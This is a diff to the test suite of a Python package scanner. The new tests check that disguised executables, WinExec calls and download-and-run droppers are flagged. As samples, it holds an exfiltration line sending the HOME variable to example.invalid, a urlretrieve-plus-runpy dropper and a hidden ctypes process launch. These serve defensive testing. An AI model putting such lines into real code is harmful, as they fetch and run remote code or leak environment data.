@@ -13,7 +13,7 @@ from airlock.imports.packages.analysis import scan_python
 from airlock.imports.packages.disguise import cookie_codec, disguised_names
 from airlock.imports.packages.rules import PackageFinding, Severity
 from airlock.imports.packages.vet import vet
-from scripts.make_test_packages import BENIGN, MALICIOUS, sdist, utf7_all, wheel
+from scripts.make_test_packages import BENIGN, MALICIOUS, TINY_PE, sdist, utf7_all, wheel
 
 LEAK = "urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])"
 
@@ -44,6 +44,8 @@ def _worst(findings: list[PackageFinding], rule: str | None = None) -> Severity:
         ("startup-module", Outcome.HOLD),
         ("script-dropper", Outcome.HOLD),
         ("shady-endpoint", Outcome.HOLD),
+        ("disguised-executable", Outcome.DENY),
+        ("dropper:windows-shell-execute", Outcome.DENY),
         ("exfiltration:shady-host-when-called", Outcome.DENY),
     ],
 )
@@ -205,3 +207,36 @@ def test_shady_hosts_weigh_only_as_a_sinks_target() -> None:
     host = base64.b64encode(b"https://x.trycloudflare.com/p").decode()
     decoded = f"import base64, requests\nURL = base64.b64decode('{host}').decode()\n"
     assert _worst(scan_python("m.py", decoded), "hidden-payload") is Severity.CRITICAL
+
+
+def test_programs_under_other_names_are_read_and_launchers_pass() -> None:
+    # An ELF with no suffix (cmake's ``bin/cmake``) and distlib's launchers are read, not held.
+    data = wheel(
+        "kitchensink",
+        "0.1",
+        {
+            "kitchensink/__init__.py": "",
+            "kitchensink/bin/tool": b"\x7fELF\x02\x01" + bytes(64),
+            "kitchensink/t64.exe": TINY_PE,
+        },
+    )
+    assert vet("kitchensink-0.1-py3-none-any.whl", data).verdict is Outcome.ALLOW
+    # The first evasion of a disguised program: another data suffix, upper case.
+    data = wheel("docsy", "0.1", {"docsy/__init__.py": "", "docsy/README.TXT": TINY_PE})
+    assert vet("docsy-0.1-py3-none-any.whl", data).verdict is Outcome.DENY
+    text = wheel("mzdoc", "0.1", {"mzdoc/__init__.py": "", "mzdoc/notes.txt": b"MZ notes " * 20})
+    assert vet("mzdoc-0.1-py3-none-any.whl", text).verdict is Outcome.ALLOW
+
+
+def test_windows_program_starts_through_getattr_and_runpy_of_a_download() -> None:
+    hidden = "import ctypes\ngetattr(ctypes.windll.kernel32, 'WinExec')(b'calc', 0)\n"
+    assert _worst(scan_python("m.py", hidden), "hidden-process") is Severity.CRITICAL
+    dropped = (
+        "import runpy, urllib.request\n"
+        "urllib.request.urlretrieve('http://example.invalid/p.py', '/tmp/p.py')\n"
+        "runpy.run_path('/tmp/p.py')\n"
+    )
+    assert _worst(scan_python("m.py", dropped), "dropper") is Severity.CRITICAL
+    later = "import win32api\n\n\ndef show(p):\n"
+    later += "    win32api.ShellExecute(0, 'open', p, None, None, 1)\n"
+    assert _worst(scan_python("m.py", later)) < Severity.HIGH  # opening a document when asked
